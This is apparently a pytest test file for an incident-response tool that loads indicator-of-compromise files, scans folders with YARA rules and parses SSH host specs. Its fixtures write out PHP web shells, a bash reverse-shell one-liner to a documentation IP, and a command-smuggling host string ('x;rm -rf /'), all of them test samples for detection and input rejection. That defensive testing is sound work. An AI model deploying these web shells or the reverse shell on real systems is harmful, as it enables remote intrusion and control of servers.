"""Indicator files, YARA rules, and host specs."""

from __future__ import annotations

from pathlib import Path

import pytest

from aftermath.errors import UsageError
from aftermath.review.scanners.yara import default_rule_files
from aftermath.secure.hosts import LOCAL, Host, parse_host
from aftermath.secure.sweep import indicators


def test_ioc_file_holds_addresses_networks_and_hashes(tmp_path: Path) -> None:
    path = tmp_path / "iocs.txt"
    path.write_text("# from the CERT\n203.0.113.7\n198.51.100.0/24  # C2 range\n2001:db8::1\n"
                    + "A" * 64 + "\n" + "b" * 32 + "\n\n")
    iocs = indicators.load_iocs([path])
    assert iocs.matches_ip("203.0.113.7") and iocs.matches_ip("198.51.100.200") and iocs.matches_ip("2001:db8::1")
    assert iocs.matches_ip("192.0.2.1") is None and iocs.matches_ip("not-an-ip") is None
    assert iocs.hashes == {"a" * 64, "b" * 32}


def test_a_bad_ioc_line_is_named_by_file_and_line(tmp_path: Path) -> None:
    path = tmp_path / "iocs.txt"
    path.write_text("203.0.113.7\nevil.example.com\n")
    with pytest.raises(UsageError, match=r"iocs.txt:2: 'evil.example.com'"):
        indicators.load_iocs([path])


def test_default_rules_catch_common_web_shells_and_not_plain_pages(tmp_path: Path) -> None:
    rules = indicators.compile_rules(indicators.rule_files([]))
    scan = tmp_path / "scan"
    samples = {
        "var/www/a.php": "<?php @eval($_POST['x']); ?>",
        "var/www/b.php": "<?php system($_GET['cmd']); ?>",
        "var/www/c.php": "<?php eval(base64_decode('ZWNobyAxOw==')); ?>",
        "tmp/r.sh": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "var/www/index.php": "<?php echo htmlspecialchars($_GET['q']); ?>",
    }
    for rel, text in samples.items():
        (scan / rel).parent.mkdir(parents=True, exist_ok=True)
        (scan / rel).write_text(text)
    found = {m.path: m.rules for m in indicators.scan_folder(rules, tmp_path)}
    assert set(found) == {"/var/www/a.php", "/var/www/b.php", "/var/www/c.php", "/tmp/r.sh"}
    assert "php_exec_on_request_input" in found["/var/www/a.php"]
    assert found["/tmp/r.sh"] == ("reverse_shell_one_liner",)


def test_the_sweep_scans_with_the_review_default_rules() -> None:
    assert indicators.rule_files([]) == default_rule_files()
    assert not (Path(indicators.__file__).parent / "rules").exists()  # no second rule set of its own


def test_users_rules_may_read_the_file_path_and_reuse_a_default_file_name(tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    # LOKI/THOR-style: the rule reads the host path; the file shares the default "webshells" file's name and
    # one of its rule names, which only a namespace of its own makes possible
    (mine / "webshells.yar").write_text('rule php_exec_on_request_input { strings: $a = "MARK" '
                                        'condition: $a and filename == "x.php" and filepath == "/var/www" }')
    for rel in ("var/www/x.php", "var/www/y.php"):
        (tmp_path / "scan" / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "scan" / rel).write_text("MARK")
    rules = indicators.compile_rules(indicators.rule_files([mine]))
    assert [(m.path, m.rules) for m in indicators.scan_folder(rules, tmp_path)] == [
        ("/var/www/x.php", ("php_exec_on_request_input",))]


def test_extra_rules_are_added_and_broken_ones_named(tmp_path: Path) -> None:
    good = tmp_path / "mine.yar"
    good.write_text('rule planted_marker { strings: $a = "MARKER-42" condition: $a }')
    (tmp_path / "scan" / "tmp").mkdir(parents=True)
    (tmp_path / "scan" / "tmp" / "f").write_text("xx MARKER-42 xx")
    rules = indicators.compile_rules(indicators.rule_files([tmp_path]))
    assert indicators.scan_folder(rules, tmp_path)[0].rules == ("planted_marker",)
    bad = tmp_path / "bad.yar"
    bad.write_text("rule broken { condition: $nope }")
    with pytest.raises(UsageError, match="bad.yar do not compile"):
        indicators.compile_rules([bad])
    with pytest.raises(UsageError, match="rules .*missing.yar not found"):
        indicators.rule_files([tmp_path / "missing.yar"])


@pytest.mark.parametrize(("text", "host"), [
    ("root@10.0.0.5", Host("10.0.0.5", "root", 22)),
    ("admin@web1.example.com:2222", Host("web1.example.com", "admin", 2222)),
    ("db1", Host("db1", None, 22)),
    ("root@[2001:db8::5]:22", Host("[2001:db8::5]", "root", 22)),
    ("local", LOCAL),
])
def test_host_specs(text: str, host: Host) -> None:
    assert parse_host(text) == host


@pytest.mark.parametrize("text", ["root@", "a b", "root@host:0", "root@host:99999", "x;rm -rf /"])
def test_bad_host_specs_are_usage_errors(text: str) -> None:
    with pytest.raises(UsageError):
        parse_host(text)


def test_labels_are_safe_folder_names() -> None:
    assert parse_host("root@[2001:db8::5]:2222").label == "2001_db8__5_2222"
    assert str(parse_host("admin@web1:2222")) == "admin@web1:2222"
